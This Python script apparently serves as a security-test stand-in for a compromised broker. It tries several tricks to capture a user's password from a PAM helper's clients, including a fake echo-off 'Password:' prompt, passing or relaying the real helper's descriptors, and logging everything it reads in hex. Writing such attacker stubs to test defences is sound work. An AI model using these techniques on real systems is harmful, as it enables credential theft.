#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""What somebody who has taken over the broker can do to learn a password: runs in its place, in its
unit, as its user. Whoever opens something is asked for one, in the way that the endpoint's name says;
what comes out of every descriptor that this process has goes to the journal, as GOT followed by the
bytes in hexadecimal."""

import array
import json
import os
import select
import socket
import struct
import sys
import time

HELPER = "/run/doorward/pam"
NO_UID = 0xFFFFFFFF
ECHO_OFF = 3


def say(text):
    print(text, flush=True)


def string(text):
    return struct.pack("<H", len(text)) + text


def send(sock, message, fds=()):
    data = json.dumps(message).encode() + b"\0"
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
    sock.sendmsg([data], rights)


def conversation(client, fd):
    send(
        client,
        {"parameters": {"state": "conversation", "conversation": 0, "requestId": "0" * 16},
         "continues": True},
        [fd],
    )


def begin_real(client):
    """A conversation with the real helper, about this client: its end, and the helper's
    connection."""
    helper = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    helper.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
    helper.connect(HELPER)
    request = struct.pack("<IBII", 1, 1, 0, NO_UID) + string(b"bob") + string(b"")
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [client.fileno()]))]
    helper.sendmsg([request], rights)
    space = socket.CMSG_SPACE(12) + socket.CMSG_SPACE(4)
    data, ancillary, _, _ = helper.recvmsg(4096, space)
    fds = array.array("i")
    for _, kind, value in ancillary:
        if kind == socket.SCM_RIGHTS:
            fds.frombytes(value)
    assert data[:1] == b"\1" and len(fds) == 1, (data, fds)
    return socket.socket(fileno=fds[0]), helper


def listen_to(sockets, seconds):
    """Whatever can be read, of any of them."""
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        ready, _, _ = select.select(sockets, [], [], left)
        for sock in ready:
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            if not data:
                sockets.remove(sock)
                continue
            say("GOT " + data.hex())
            yield sock, data
        if not sockets:
            return


def attack(client, name):
    kept = []
    if name == "own":
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        conversation(client, theirs.fileno())
        ours.send(struct.pack("<BI", ECHO_OFF, 1) + string(b"Password: "))
        kept = [ours]
    elif name == "duplicate":
        end, helper = begin_real(client)
        conversation(client, end.fileno())
        # The prompt is not ours to take; what the client writes would be.
        time.sleep(1)
        kept = [end, helper]
    elif name == "relay":
        end, helper = begin_real(client)
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        conversation(client, theirs.fileno())
        kept = [end, ours, helper]
        for sock, data in listen_to(kept, 3):
            if sock is end:
                ours.send(data)
        return
    elif name == "connection":
        # Root is at the other end of this one, too.
        end, helper = begin_real(client)
        conversation(client, helper.fileno())
        kept = [end, helper]
    for _ in listen_to(kept, 3):
        pass


def serve(listener):
    while True:
        client, _ = listener.accept()
        buffer = b""
        while b"\0" not in buffer:
            data = client.recv(65536)
            if not data:
                break
            buffer += data
        if not buffer:
            continue
        call = json.loads(buffer.split(b"\0")[0])
        name = call.get("parameters", {}).get("endpoint", "")
        try:
            attack(client, name)
        except (OSError, AssertionError) as error:
            say(f"FAILED {name}: {error}")
        say(f"DONE {name}")
        client.close()


def main():
    assert os.environ["LISTEN_FDS"] == "1"
    listener = socket.socket(fileno=3)
    notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    notify.sendto(b"READY=1", os.environ["NOTIFY_SOCKET"].replace("@", "\0", 1))
    serve(listener)


if __name__ == "__main__":
    sys.exit(main())
